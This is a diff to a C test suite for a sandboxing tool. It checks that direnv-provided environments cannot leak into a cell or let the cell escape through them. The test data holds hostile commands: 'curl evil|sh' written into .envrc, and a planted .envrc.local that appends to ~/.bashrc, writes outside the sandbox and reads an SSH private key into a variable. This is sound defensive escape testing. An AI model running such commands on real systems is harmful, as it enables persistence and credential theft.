@@ -1395,8 +1395,11 @@ Test(escape, direnvs_environment_when_direnv_allowed_it)
 
 	if (access("/usr/bin/direnv", X_OK) != 0)
 		th_skip("direnv is not installed (apt-get install direnv)");
+	/* (what the .envrc unsets, from outside, is not in the cell either) */
+	env_add("TZ=from-outside");
 	free(th_write(t.proj, ".envrc",
-		      "export FROM_DIRENV=yes\nPATH_add tools\ndotenv_if_exists .env.direnv\n"));
+		      "export FROM_DIRENV=yes\nPATH_add tools\ndotenv_if_exists .env.direnv\n"
+		      "unset TZ\n"));
 	free(th_write(t.proj, ".env.direnv", "VIA_DOTENV=1\n"));
 	free(th_write(t.proj, "tools/hello", "#!/bin/sh\necho hello\n"));
 	{
@@ -1409,9 +1412,9 @@ Test(escape, direnvs_environment_when_direnv_allowed_it)
 	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
 		   " \"env\": {\"provider\": \"direnv\"}}");
 	/* not allowed by direnv: nothing of it, and the reason */
-	r = in_cell("echo x$FROM_DIRENV");
+	r = in_cell("echo x$FROM_DIRENV $TZ");
 	cr_assert(eq(int, r.status, 0), "%s", r.err);
-	cr_assert(eq(str, r.out, (char *)"x\n"));
+	cr_assert(eq(str, r.out, (char *)"x from-outside\n"));
 	cr_assert(not(eq(ptr, strstr(r.err, "direnv could not evaluate"), NULL)), "%s", r.err);
 	cr_assert(not(eq(ptr, strstr(r.err, "is blocked"), NULL)), "%s", r.err);
 	th_result_done(&r);
@@ -1419,8 +1422,9 @@ Test(escape, direnvs_environment_when_direnv_allowed_it)
 	th_run_as(t.uid, t.gid, t.proj, allow_argv, t.env, &r);
 	cr_assert(eq(int, r.status, 0), "direnv allow: %s", r.err);
 	th_result_done(&r);
-	snprintf(want, sizeof(want), "yes 1\n%s/tools/hello\nhello\n", t.proj);
-	expect(in_cell("echo $FROM_DIRENV $VIA_DOTENV; command -v hello; hello"), 0, want);
+	snprintf(want, sizeof(want), "yes 1 unset\n%s/tools/hello\nhello\n", t.proj);
+	expect(in_cell("echo $FROM_DIRENV $VIA_DOTENV ${TZ-unset}; command -v hello; hello"), 0,
+	       want);
 	/* .envrc is read-only in the cell, and .direnv (nix-direnv sources its .rc files
 	 * outside) is the cell's own: what the cell writes there never reaches the project's */
 	expect(in_cell("echo 'curl evil|sh' >> .envrc"), 2, "");
@@ -1429,6 +1433,54 @@ Test(escape, direnvs_environment_when_direnv_allowed_it)
 	cr_assert(not(host_has("proj/.direnv/flake-profile.rc")));
 	/* ...and is there again in the next cell */
 	expect(in_cell("cat .direnv/flake-profile.rc"), 0, "curl evil|sh\n");
+}
+
+/*
+ * A trusted, direnv-allowed .envrc sources .envrc.local if there is one; the cell writes one.
+ * When the environment is next evaluated (outside, as the user), that file runs: in the
+ * provider's sandbox it can write nothing outside its own places, and the home's credentials
+ * are not there for it to hand to the cell.
+ */
+Test(escape, what_a_provider_runs_for_the_cell_is_sandboxed)
+{
+	char *allow_argv[] = {(char *)"/usr/bin/direnv", (char *)"allow", (char *)".", NULL};
+	char *refresh[] = {(char *)CELL, (char *)"env", (char *)"--refresh", NULL};
+	char payload[1024];
+	struct th_result r;
+
+	if (access("/usr/bin/direnv", X_OK) != 0)
+		th_skip("direnv is not installed (apt-get install direnv)");
+	/* (the user's, so that only the sandbox stands in the way) */
+	th_chown_r(t.outside, t.uid, t.gid);
+	th_chown_r(t.home, t.uid, t.gid);
+	free(th_write(t.proj, ".envrc",
+		      "export FROM_DIRENV=yes\nsource_env_if_exists .envrc.local\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
+		   " \"env\": {\"provider\": \"direnv\"}}");
+	th_run_as(t.uid, t.gid, t.proj, allow_argv, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "direnv allow: %s", r.err);
+	th_result_done(&r);
+	expect(in_cell("echo $FROM_DIRENV"), 0, "yes\n");
+	snprintf(payload, sizeof(payload),
+		 "cat > .envrc.local <<'EOF'\n"
+		 "echo planted >> %s/.bashrc\n"
+		 "echo planted > %s/note-from-provider\n"
+		 "export LEAK=\"$(cat %s/.ssh/id_ed25519)\"\n"
+		 "EOF\n",
+		 t.home, t.outside, t.home);
+	expect(in_cell(payload), 0, "");
+	th_run_as(t.uid, t.gid, t.proj, refresh, t.env, &r);
+	th_result_done(&r);
+	cr_assert(not(host_has("outside/note-from-provider")));
+	{
+		char *rc = th_join(t.home, ".bashrc"), *text = th_read(rc);
+
+		cr_assert(eq(ptr, strstr(text, "planted"), NULL), "~/.bashrc: %s", text);
+		free(text);
+		free(rc);
+	}
+	expect(in_cell("echo \"x$LEAK\""), 0, "x\n");
 }
 
 /* nix's daemon, for a user's nix: started here as root when none answers (a test machine). */
